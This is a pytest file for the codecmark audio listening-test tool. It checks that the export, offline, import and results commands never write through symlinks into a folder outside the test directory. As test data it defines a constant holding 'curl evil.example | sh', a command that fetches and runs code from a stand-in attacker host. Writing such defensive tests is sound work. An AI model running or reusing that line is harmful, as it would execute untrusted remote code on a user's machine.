"""A test's folder may be a stranger's: no command writes out of it through a link."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest
from msgspec.structs import replace

from codecmark.__main__ import main
from codecmark.listen import design as designs
from codecmark.listen import webmushra
from codecmark.listen.design import Design
from codecmark.listen.journal import Journal
from listening_tests import planned

EVIL = b"curl evil.example | sh\n"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / "kept").write_text("mine")
    return folder


@pytest.fixture
def design(tmp_path: Path) -> Design:
    return planned(tmp_path / "t", clips=1)


def untouched(home: Path) -> bool:
    return {path.name: path.read_text() for path in home.iterdir()} == {"kept": "mine"}


def test_export_replaces_a_link_and_not_what_it_leads_to(design: Design, home: Path) -> None:
    name = design.plan.pages[0].items[0]
    entry = replace(design.key.stimuli[name], wav_sha256=hashlib.sha256(EVIL).hexdigest())
    design.wav(name).write_bytes(EVIL)
    key = replace(design.key, stimuli={**design.key.stimuli, name: entry})
    theirs = designs.write(design.folder, design.plan, key)
    configs = design.folder / "webmushra" / "configs"
    sounds = configs / "resources" / webmushra.name_of(theirs)
    sounds.mkdir(parents=True)
    (sounds / f"{name}.wav").symlink_to(home / "kept")
    (configs / f"{webmushra.name_of(theirs)}.yaml").symlink_to(home / "new")
    assert main(["listen", "export", str(design.folder)]) == 0
    assert untouched(home)
    assert (sounds / f"{name}.wav").read_bytes() == EVIL
    assert not (sounds / f"{name}.wav").is_symlink()


@pytest.mark.parametrize(
    ("action", "name"),
    [
        ("export", "webmushra"), ("export", "webmushra/configs"),
        ("export", "webmushra/configs/resources"), ("offline", "offline"),
    ],
)  # fmt: skip
def test_no_folder_behind_a_link_is_written_to(
    design: Design, home: Path, capsys: pytest.CaptureFixture[str], action: str, name: str
) -> None:
    place = design.folder / name
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(home)
    assert main(["listen", action, str(design.folder)]) == 2
    assert "link" in capsys.readouterr().err
    assert untouched(home)


def test_a_link_in_place_of_a_listeners_file_is_replaced(design: Design, home: Path) -> None:
    folder = design.folder / "offline"
    folder.mkdir()
    (folder / "listening-test-001.html").symlink_to(home / "kept")
    assert main(["listen", "offline", str(design.folder)]) == 0
    assert untouched(home)
    assert (folder / "listening-test-001.html").stat().st_mode & 0o077 == 0


def test_import_into_a_set_makes_no_files_elsewhere(tmp_path: Path, home: Path) -> None:
    folder = tmp_path / "set"
    folder.mkdir()
    for name in ("listening.json", "ratings.csv"):
        (folder / name).symlink_to(home / name)
    table = tmp_path / "mushra.csv"
    table.write_text(
        "session_uuid,trial_id,rating_stimulus,rating_score\nu,t,reference,9\nu,t,a,5\n"
    )
    assert main(["listen", "import", str(folder), str(table)]) == 0
    assert untouched(home)
    assert main(["listen", "import", str(folder), str(table)]) == 0


def test_results_write_neither_page_nor_set_through_a_link(design: Design, home: Path) -> None:
    with Journal(design) as journal:
        session = journal.join().session
        for turn in journal.turns(session).values():
            journal.answer(session, turn.page, [50] * turn.answers, [turn.hear_s] * turn.heard)
    folder = design.folder
    (folder / "r.html").symlink_to(home / "kept")
    (folder / "out").symlink_to(home)
    assert main(["listen", "results", str(folder), "--page", str(folder / "r.html")]) == 0
    assert not (folder / "r.html").is_symlink()
    for options in (["--page", str(folder / "out" / "r.html")], ["--save", str(folder / "out")]):
        assert main(["listen", "results", str(folder), *options]) == 2
    assert untouched(home)


def test_saving_copies_no_name_that_acts(tmp_path: Path, home: Path) -> None:
    folder = tmp_path / "set"
    folder.mkdir()
    (folder / "kept").write_bytes(EVIL)
    stimuli = [{"clip": "c", "system": "a", "audio": "kept"}, {"clip": "c", "system": "b"}]
    head = {"format": "codecmark-listening-set-1", "method": "mushra", "stimuli": stimuli}
    (folder / "listening.json").write_text(json.dumps(head))
    (folder / "ratings.csv").write_text("listener,clip,system,rating\nu,c,a,5\nu,c,b,6\n")
    assert main(["listen", "results", str(folder), "--save", str(home)]) == 2
    assert untouched(home)
